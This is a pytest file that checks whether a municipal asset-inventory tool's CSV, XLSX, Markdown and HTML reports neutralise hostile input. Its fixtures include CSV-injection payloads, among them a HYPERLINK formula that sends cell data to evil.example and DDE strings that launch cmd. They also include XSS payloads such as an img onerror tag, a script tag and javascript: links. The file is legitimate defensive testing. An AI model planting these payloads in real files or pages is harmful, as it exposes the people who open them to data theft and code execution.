"""Files that meeting staff open (batch CSV/XLSX, scorecard XLSX/Markdown/HTML) with hostile data.

Every text field that reaches one of these outputs gets values that a spreadsheet would run as a
formula (``=``, ``+``, ``-``, ``@``, tab, carriage return; OWASP CSV injection) or that a
Markdown viewer would render (HTML, links, emphasis, table pipes). The CSVs are read back with
Python's csv module, the workbooks with openpyxl (no formula cell anywhere, the text kept), the
Markdown rendered with markdown-it (CommonMark, as GitHub and most viewers) when it is installed.
"""
from __future__ import annotations

import csv
import html
from pathlib import Path

import pyogrio
import pytest
from test_maps import make_inventory

from zlt_assets import schema
from zlt_assets.inventory import write_layers

HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+3",
]
MARKUP = ["<img src=x onerror=alert(1)>", "**bold** _em_ [link](javascript:alert(2))",
          "a | b | c", "<script>alert(3)</script>", "`code` ![i](http://evil.example/x.png)"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _neutral(text: str) -> bool:
    """A CSV cell a spreadsheet shows as text: it does not start like a formula."""
    return not text.startswith(FORMULA_START)


# -------------------------------------------------------------------------------- batch
@pytest.fixture(scope="module")
def batch_out(tmp_path_factory) -> Path:
    from zlt_assets import batch

    d = tmp_path_factory.mktemp("hostile_batch")
    inv = make_inventory(d / "inv.gpkg")
    layers = {n: pyogrio.read_dataframe(inv, layer=n) for n in schema.LAYERS}
    layers["street_offices"]["name"] = [HOSTILE[0], HOSTILE[3]]
    write_layers(inv, layers)
    scenarios = []
    for i, value in enumerate(HOSTILE + MARKUP[:1]):
        scenarios.append(
            f"[[scenarios]]\nname = {tomlstr(value if i else 'plain')}\n"
            f"description = {tomlstr(value)}\nfacilities = \"stops\"\nradius = 500\n")
    scenarios.append('[[scenarios]]\nname = "broken"\ndescription = "=1+1"\n'
                     'facilities = { file = "=missing.geojson" }\nradius = 500\n')
    text = (f'title = "=t"\n[defaults]\ndata = {tomlstr(str(inv))}\narea = "urban_area"\n'
            'districts = "street_offices"\npopulation = "none"\nmethod = "euclidean"\n'
            '[facility_sets.stops]\nlayer = "bus_stops"\n' + "\n".join(scenarios))
    path = d / "scn.toml"
    path.write_text(text, encoding="utf-8")
    plan = batch.load_scenarios(path)
    batch.run_batch(plan, d / "out")
    return d / "out"


def tomlstr(s: str) -> str:
    import json

    return json.dumps(s, ensure_ascii=False)  # a JSON string is a valid TOML basic string


def _csv_cells(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


@pytest.mark.parametrize("name", ["summary.csv", "summary_by_district.csv"])
def test_batch_csv_cells_never_start_like_a_formula(batch_out: Path, name: str):
    rows = _csv_cells(batch_out / name)
    cells = [c for row in rows for c in row]
    assert cells
    for c in cells:
        if c and c.lstrip("-").replace(".", "", 1).replace("e-", "").isdigit():
            continue  # a number (a negative one included) is a number, not text
        assert _neutral(c), repr(c)
    text = (batch_out / name).read_text(encoding="utf-8-sig")
    # the hostile values are all there, prefixed with an apostrophe, otherwise unchanged
    if name == "summary.csv":
        for v in HOSTILE:
            assert any(c == "'" + v for c in cells), v
        assert "'=1+1" in cells  # the failing scenario's description
    else:
        assert "'" + HOSTILE[0] in cells and "'" + HOSTILE[3] in cells
    assert "\ufeff" not in text  # one BOM, read by utf-8-sig


def _text_cells(wb, *, quote_prefix: bool = False) -> set[str]:
    """Every text cell of a workbook; fails on any formula cell (and, with ``quote_prefix``, on
    text starting like a formula without Excel's quote-prefix style).
    """
    seen: set[str] = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    seen.add(cell.value)
                    if quote_prefix and cell.value.startswith(FORMULA_START):
                        assert cell.quotePrefix, (ws.title, cell.coordinate)
    return seen


def test_batch_xlsx_has_no_formula_and_keeps_the_text(batch_out: Path):
    from openpyxl import load_workbook

    seen = _text_cells(load_workbook(batch_out / "summary.xlsx"), quote_prefix=True)
    for v in HOSTILE:
        # the data unchanged, as text (XML reads a carriage return back as a line feed)
        assert v in seen or v.replace("\r", "\n") in seen, v
    assert HOSTILE[0] in seen and f"area_share[{HOSTILE[0]}]" in seen  # a district column
    # the file's XML holds no <f> element at all
    import zipfile

    with zipfile.ZipFile(batch_out / "summary.xlsx") as z:
        for n in z.namelist():
            if n.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(n) and b"<f " not in z.read(n), n


# ---------------------------------------------------------------------------- scorecard
@pytest.fixture(scope="module")
def hostile_card(tmp_path_factory):
    from zlt_assets.analysis.scorecard import compute_scorecard

    d = tmp_path_factory.mktemp("hostile_card")
    inv = make_inventory(d / "inv.gpkg")
    layers = {n: pyogrio.read_dataframe(inv, layer=n) for n in schema.LAYERS}
    values = HOSTILE + MARKUP
    for j, name in enumerate(("facade_lighting_buildings", "bridges", "roads", "drainage_points",
                              "public_toilets", "bus_stops")):
        g = layers[name]
        g["name"] = [values[(i + 3 * j + 5) % len(values)] for i in range(len(g))]
    layers["facade_lighting_buildings"]["street_name"] = HOSTILE[1]
    write_layers(inv, layers)
    return compute_scorecard(inv)


def test_scorecard_has_hostile_values_to_show(hostile_card):
    names = {u["name"] for u in hostile_card.unmet_assets}
    assert names & set(HOSTILE) and names & set(MARKUP)  # they reach the outputs below


def test_scorecard_xlsx_has_no_formula(hostile_card, tmp_path: Path):
    from openpyxl import load_workbook

    from zlt_assets.reports import write_scorecard

    out = tmp_path / "card.xlsx"
    write_scorecard(hostile_card, out)
    seen = _text_cells(load_workbook(out))
    names = {u["name"].replace("\r", "\n") for u in hostile_card.unmet_assets}
    assert {v.replace("\r", "\n") for v in HOSTILE} & names <= seen


def test_scorecard_markdown_shows_data_as_text(hostile_card, tmp_path: Path):
    from zlt_assets.reports import write_scorecard

    out = tmp_path / "card.md"
    write_scorecard(hostile_card, out)
    md = out.read_text(encoding="utf-8")
    for bad in ("<img", "<script", "](javascript:", "![i]("):
        assert bad not in md, bad
    # every table row has the header's number of cells: a pipe in a value splits nothing
    unmet = md.split("## 未达标资产 / Assets keeping targets unmet", 1)[1].split("## ", 1)[0]
    rows = [ln for ln in unmet.splitlines() if ln.startswith("|") and not ln.startswith("|---")]
    widths = {len(split_row(r)) for r in rows}
    assert len(widths) == 1, widths
    import markdown_it

    rendered = markdown_it.MarkdownIt("commonmark").enable("table").render(md)
    assert "<img" not in rendered and "<script" not in rendered
    assert 'href="javascript' not in rendered and "<strong>bold</strong>" not in rendered
    text = html.unescape(rendered)
    shown = {u["name"] for u in hostile_card.unmet_assets} & set(MARKUP)
    assert shown
    for v in shown:
        assert v in text, v  # shown, as the text it is


def split_row(line: str) -> list[str]:
    """Cells of a Markdown table row (a backslash-escaped pipe is not a separator)."""
    cells, cur, esc = [], "", False
    for ch in line.strip()[1:-1]:
        if esc:
            cur += ch
            esc = False
        elif ch == "\\":
            cur += ch
            esc = True
        elif ch == "|":
            cells.append(cur)
            cur = ""
        else:
            cur += ch
    cells.append(cur)
    return cells


def test_scorecard_html_still_escapes_everything(hostile_card, tmp_path: Path):
    from zlt_assets.reports import write_scorecard

    out = tmp_path / "card.html"
    write_scorecard(hostile_card, out)
    page = out.read_text(encoding="utf-8")
    assert "<img src=x" not in page and "<script>alert(3)" not in page
    shown = {u["name"] for u in hostile_card.unmet_assets} & set(MARKUP)
    for v in shown:
        assert html.escape(v, quote=False) in page or html.escape(v) in page, v


def test_chart_label_never_shows_a_missed_target_as_met():
    from zlt_assets.reports.charts import bar_label

    t = {"value": 97.59132, "target": 98.0, "unit": "%", "comparator": ">="}
    label = bar_label(t)
    assert label.startswith("97.6% / ") and "100%" not in label
    assert bar_label({"value": 97.96, "target": 98.0, "unit": "%"}).startswith("97.96%")
    assert bar_label({"value": 176, "target": 190, "unit": "栋 buildings"}).startswith("176 / ")


def test_csv_value_choices():
    from zlt_assets.reports.cells import csv_value

    for v in HOSTILE:
        assert csv_value(v) == "'" + v
    assert csv_value(-2.5) == -2.5 and csv_value(3) == 3 and csv_value(None) is None
    assert csv_value("兴华街道") == "兴华街道" and csv_value("a=b") == "a=b"


# ------------------------------------------------------------- every text field of the data
def _hostile_everywhere(inv: Path, keep: tuple[str, ...] = ()) -> list[str]:
    """Every text field of every layer (codes, ids and names alike, except ``keep``) gets the
    hostile values in turn; returns the values written."""
    layers = {n: pyogrio.read_dataframe(inv, layer=n) for n in schema.LAYERS}
    values = HOSTILE + MARKUP
    k = 0
    for name, g in layers.items():
        for f in schema.layer(name).fields:
            if f.type != "text" or f.name not in g.columns or f.name in keep:
                continue
            g[f.name] = [values[(k + i) % len(values)] for i in range(len(g))]
            k += 1
    write_layers(inv, layers)
    return values


def _rendered(md: str) -> str:
    """The Markdown rendered (CommonMark with tables) when markdown-it is installed; the raw
    text otherwise (no raw ``<`` from the data either way)."""
    for bad in ("<img", "<script"):
        assert bad not in md, bad
    try:
        import markdown_it
    except ImportError:
        return md
    return markdown_it.MarkdownIt("commonmark").enable("table").render(md)


def _no_markup(rendered: str) -> None:
    for bad in ("<img", "<script", 'href="javascript', "<strong>bold</strong>", "<em>em</em>",
                "<code>code</code>"):
        assert bad not in rendered, bad


def test_every_text_field_reaches_no_formula_and_no_markup(tmp_path: Path):
    """Codes, ids, names, notes: whatever text field the data fills, the scorecard workbook
    has no formula and every value starting like one is quote-prefixed; the scorecard and the
    inventory summary in Markdown render it as text."""
    from openpyxl import load_workbook

    from zlt_assets.analysis.scorecard import compute_scorecard
    from zlt_assets.reports import write_scorecard
    from zlt_assets.summary import summarise_inventory

    inv = make_inventory(tmp_path / "inv.gpkg")
    values = _hostile_everywhere(inv)
    card = compute_scorecard(inv)
    for ext in ("xlsx", "md", "html"):
        write_scorecard(card, tmp_path / f"card.{ext}")
    seen = _text_cells(load_workbook(tmp_path / "card.xlsx"), quote_prefix=True)
    reached = {v for v in values if v in seen or v.replace("\r", "\n") in seen}
    assert set(HOSTILE) <= reached, set(HOSTILE) - reached  # they do reach the workbook
    _no_markup(_rendered((tmp_path / "card.md").read_text(encoding="utf-8")))
    page = (tmp_path / "card.html").read_text(encoding="utf-8")
    assert "<img src=x" not in page and "<script>alert(3)" not in page

    md = summarise_inventory(str(inv)).to_markdown()
    rendered = _rendered(md)
    _no_markup(rendered)
    text = html.unescape(rendered)
    if rendered != md:  # rendered: the values show as the text they are
        assert [v for v in MARKUP if v in text], "hostile status values reach the summary"
    else:
        assert "&lt;img src=x onerror=alert\\(1\\)&gt;" in md


def test_every_text_field_in_the_batch_tables(tmp_path: Path):
    """The batch CSVs and workbook with every text field hostile (status kept, so that the
    scenario runs and the street-office rows are written)."""
    from openpyxl import load_workbook

    from zlt_assets import batch

    inv = make_inventory(tmp_path / "inv.gpkg")
    _hostile_everywhere(inv, keep=("status",))
    path = tmp_path / "scn.toml"
    path.write_text(f'[defaults]\ndata = {tomlstr(str(inv))}\narea = "urban_area"\n'
                    'districts = "street_offices"\npopulation = "none"\nmethod = "euclidean"\n'
                    '[facility_sets.stops]\nlayer = "bus_stops"\n[[scenarios]]\nname = "a"\n'
                    'facilities = "stops"\nradius = 500\n', encoding="utf-8")
    batch.run_batch(batch.load_scenarios(path), tmp_path / "out")
    rows = _csv_cells(tmp_path / "out" / "summary_by_district.csv")
    assert len(rows) == 3  # header and the two street offices, whose code and name are hostile
    for c in (c for row in rows for c in row):
        if c and c.lstrip("-").replace(".", "", 1).replace("e-", "").isdigit():
            continue
        assert _neutral(c), repr(c)
    assert {r[1] for r in rows[1:]} | {r[2] for r in rows[1:]} <= {
        "'" + v if v.startswith(FORMULA_START) else v for v in HOSTILE + MARKUP}
    for c in (c for row in _csv_cells(tmp_path / "out" / "summary.csv") for c in row):
        if c and not c.lstrip("-").replace(".", "", 1).replace("e-", "").isdigit():
            assert _neutral(c), repr(c)
    _text_cells(load_workbook(tmp_path / "out" / "summary.xlsx"), quote_prefix=True)
